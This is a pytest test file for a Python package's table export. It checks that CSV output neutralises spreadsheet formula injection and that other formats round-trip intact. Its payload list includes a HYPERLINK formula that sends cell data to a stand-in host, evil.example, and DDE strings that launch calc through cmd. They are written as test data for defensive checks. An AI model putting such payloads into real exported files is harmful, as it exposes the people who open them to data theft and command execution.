"""Tables in files for people: every format is read, formulas are neutralised in what is written."""

from __future__ import annotations

import ast
import csv
import gzip
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

import feilun
from feilun.cli.main import app
from feilun.core.errors import FeilunError
from feilun.stages.collect.source import Quarantine
from feilun.wheel.project import Project
from feilun.wheel.tables import read_texts, texts, unescaped, unreadable, write_table
from tests.evidence import Evidence

FORMULAS = [
    "=1+1", "+1", "-1", "@x", "\tx", "\rx", "\n=x", "\0=x", "＝1", "＋1", "－1", "＠x",
    '=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0", '=1+1";=1+1', "=1+1\n=2+2",
]  # fmt: skip
RISKY = [*FORMULAS, "'=x", "''-", "plain", "'quoted'", "", "负面"]


def run_by_a_spreadsheet(path: Path) -> tuple[int, list[str]]:
    """How many cells a CSV file has, and those that begin as a formula does, as a reader that is
    not ours finds them."""
    with path.open(encoding="utf-8-sig", newline="") as source:
        cells = [cell for row in csv.reader(source) for cell in row]
    begins = tuple("=+-@\t\r\n\0＝＋－＠")
    return len(cells), [cell for cell in cells if cell.startswith(begins)]


def written_by_every_command(project: Project, folder: Path) -> list[Path]:
    """Each way in which the package writes a table, with formulas in every text of it."""
    typed = [text for text in FORMULAS if "\0" not in text]
    source = folder / "in.jsonl"
    write_table(pl.DataFrame({"text": typed}), source)
    runner, root = CliRunner(), str(project.root)
    answers = project.predict(typed)
    for answer, text in zip(answers, typed, strict=True):
        project.feedback(answer.id, "comment", text, source=text)
        project.feedback(answer.id, "correction", text, source=text)
    commands = {
        "file.csv": ["predict", str(source), "--out"],
        "logged.csv": ["predict", str(source), "--log", "--out"],
        "texts.csv": ["predict", "--out"],
        "feedback.csv": ["feedback", "export"],
    }
    for name, command in commands.items():
        more = ["--", *typed] if name == "texts.csv" else []
        said = runner.invoke(app, [*command, str(folder / name), "-C", root, *more])
        assert said.exit_code == 0, said.output
    write_table(pl.DataFrame({"text": FORMULAS, "n": range(len(FORMULAS))}), folder / "table.csv")
    return [folder / name for name in (*commands, "table.csv")]


def test_no_csv_of_ours_has_a_cell_that_runs(
    trained_project: Project, tmp_path: Path, evidence: Evidence
) -> None:
    toml = trained_project.root / "feilun.toml"
    toml.write_text(toml.read_text("utf-8") + '\n[serve.log]\nkeep = "full"\n', "utf-8")
    with Project.open(trained_project.root) as project:
        paths = written_by_every_command(project, tmp_path)
    cells, dangerous = 0, []
    for path in paths:
        count, run = run_by_a_spreadsheet(path)
        content = path.read_text("utf-8")
        assert "HYPERLINK" in content
        assert "calc" in content
        cells += count
        dangerous += run
    assert dangerous == []
    evidence(
        25,
        f"{cells} cells in {len(paths)} exported CSV files (predictions of a file, logged or not, "
        f"and of texts; feedback; any table), made of {len(FORMULAS)} formulas: {len(dangerous)} "
        "begin as one",
    )
    # The control: the same table as others write it.
    pl.DataFrame({"text": FORMULAS}).write_csv(tmp_path / "plain.csv")
    _count, run = run_by_a_spreadsheet(tmp_path / "plain.csv")
    assert len(run) == len(FORMULAS)
    evidence.control(
        25, f"written by polars alone, {len(run)} of the {len(FORMULAS)} formulas begin a cell"
    )


def test_nothing_else_writes_csv() -> None:
    """What does must be told here, with the reason why it may."""
    known = {
        "wheel/tables.py": "write_csv",  # the one way
        "wheel/packaging/distribution.py": "writer",  # the names of our own files
        "apps/demo/story.py": "write_csv",  # our own texts
    }
    package, found = Path(feilun.__file__).parent, {}
    for path in sorted(package.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if not isinstance(node, ast.Attribute):
                continue
            by_csv = isinstance(node.value, ast.Name) and node.value.id == "csv"
            if node.attr in {"write_csv", "sink_csv", "to_csv", "DictWriter"} or (
                by_csv and node.attr == "writer"
            ):
                found[str(path.relative_to(package))] = node.attr
    assert found == known


def test_formulas_are_neutralised_in_csv_and_come_back(tmp_path: Path) -> None:
    frame = pl.DataFrame({"a": RISKY, "n": range(len(RISKY))})
    write_table(frame, tmp_path / "t.csv")
    table = pl.read_csv(tmp_path / "t.csv", infer_schema=False)
    assert not any(cell[:1] in "=+-@\t\r" for cell in table["a"] if cell)
    assert (tmp_path / "t.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert unescaped(table)["a"].fill_null("").to_list() == RISKY


@pytest.mark.parametrize("form", ["jsonl", "parquet"])
def test_other_formats_keep_every_byte(form: str, tmp_path: Path) -> None:
    path = tmp_path / f"t.{form}"
    write_table(pl.DataFrame({"a": RISKY}), path)
    assert read_texts(path, "a", Quarantine()) == RISKY


def test_an_unknown_ending_is_told(tmp_path: Path) -> None:
    with pytest.raises(FeilunError, match=r"must be \.csv, \.jsonl or \.parquet"):
        write_table(pl.DataFrame({"a": [1]}), tmp_path / "t.xlsx")
    write_table(pl.DataFrame({"n": [1]}), tmp_path / "t.csv")


def test_texts_of_every_kind_of_file_are_read(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("one\n\nthree\n")
    (tmp_path / "a.md").write_text("# one\n")
    (tmp_path / "a.csv.gz").write_bytes(gzip.compress(b"n,review\n1,one text\n2,\n"))
    (tmp_path / "a.json").write_text('[{"text": "one"}, {"other": 1}]')
    for name, wanted in (
        ("a.txt", ["one", "", "three"]),
        ("a.md", ["# one\n"]),
        ("a.csv.gz", ["one text", ""]),
        ("a.json", ["one", ""]),
    ):
        assert read_texts(tmp_path / name, None, Quarantine()) == wanted
    for name, code in (("a.docx", "unknown_ending"), ("gone.csv", "file_missing")):
        if name == "a.docx":
            (tmp_path / name).touch()
        with pytest.raises(FeilunError) as caught:
            read_texts(tmp_path / name, None, Quarantine())
        assert caught.value.code == code
        assert caught.value.remedy


def test_texts_come_some_at_a_time(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text('{"text": "one"}\n' * 100_000 + '{"t": 1}\n' * 600_000)
    parts = list(texts(tmp_path / "a.jsonl", None, Quarantine()))
    assert len(parts) > 2
    assert max(map(len, parts)) <= 65_536
    assert sum(map(len, parts)) == 700_000
    assert parts[0][0] == "one"
    assert parts[-1][-1] == ""


def test_rows_that_cannot_be_read_are_told(tmp_path: Path) -> None:
    quarantine = Quarantine()
    assert unreadable(quarantine) is None
    (tmp_path / "a.csv").write_text("text,b\nfirst text,1\nx\ny\nz\0,1\nlast text,2\n")
    assert read_texts(tmp_path / "a.csv", None, quarantine) == ["first text", "last text"]
    sentence = unreadable(quarantine) or ""
    assert sentence.startswith("3 rows could not be read and were left out: 2 ")
    assert "(row 2), 1 " in sentence
    assert sentence.endswith("(row 4)")
